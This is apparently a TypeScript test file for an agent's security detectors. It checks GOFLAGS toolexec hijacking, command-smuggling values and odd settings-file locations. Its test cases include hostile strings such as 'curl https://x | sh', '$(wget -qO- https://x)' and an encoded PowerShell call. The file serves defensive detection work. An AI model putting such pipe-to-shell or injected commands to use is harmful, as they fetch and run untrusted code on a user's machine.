import { expect, test } from 'vitest'
import { DEFAULT_POLICY } from '../../../../agent/detectors/detector.ts'
import { hidesCommand } from '../../../../agent/detectors/model/hidden-command.ts'
import { isOddPlace, runnersIn } from '../../../../agent/detectors/model/hijack.ts'

test('programs that GOFLAGS makes Go run', () => {
  const policy = { ...DEFAULT_POLICY, allowedToolexec: ['wrap'] }
  const run = (flags: string) =>
    runnersIn({ policy, env: { id: 'linux', kind: 'linux', role: 'workstation' } }, flags)
  expect(run('-trimpath -toolexec=/opt/x -v')).toEqual(['-toolexec=/opt/x'])
  expect(run(`'--exec=/opt/x -q' -race`)).toEqual(['--exec=/opt/x -q'])
  expect(run('-toolexec=/opt/acme/wrap')).toEqual([])
  expect(run(`"-exec=qemu-aarch64 -L /usr/aarch64"`)).toEqual([])
  expect(run('-tags=exec -ldflags=-X=main.toolexec=1')).toEqual([])
})

test.each([
  ['gcc; curl https://x | sh', true],
  ['$(wget -qO- https://x)', true],
  ['a`bash -c x`', true],
  ['x && powershell -enc AAA', true],
  ['first\nsecond', true],
  ['C:\\R&D\\go;D:\\go', false],
  ['$(go env GOPATH)/bin', false],
  ['https://a.example.com|direct', false],
  ['-ldflags=-X main.a=b;c', false],
  ['value with the carriage return of a Windows file\r', false],
  ['/opt/sh;/opt/python', false],
])('%j hides a command: %s', (value, expected) => {
  expect(hidesCommand(value)).toBe(expected)
})

test('places where nobody keeps settings', () => {
  expect(
    ['/tmp/x/env', '\\\\server\\share\\env', 'C:\\Users\\<u1>\\AppData\\Local\\Temp\\env', '/dev/shm/e'].map(
      isOddPlace,
    ),
  ).toEqual(Array(4).fill(true))
  expect(
    [
      '/etc/go/env',
      '/workspace/.goenv',
      '\\\\wsl$\\Ubuntu\\home\\x',
      '\\\\?\\C:\\go\\env',
      '/home/<u1>/tmp/env',
    ].map(isOddPlace),
  ).toEqual(Array(5).fill(false))
})

test.each(['|', '`', '$(', '|/x', '/sh)', '; '])('a value of many %s takes no time', (part) => {
  expect(hidesCommand(part.repeat(200_000))).toBe(false)
  expect(hidesCommand(`${part.repeat(200_000)}a | /bin/sh`)).toBe(true)
})

test('a program named for a cache many times takes no time', () => {
  const flag = `-toolexec=${'cacheprog'.repeat(100_000)}!`
  expect(
    runnersIn({ policy: DEFAULT_POLICY, env: { id: 'linux', kind: 'linux', role: 'ci' } }, flag),
  ).toEqual([flag])
})
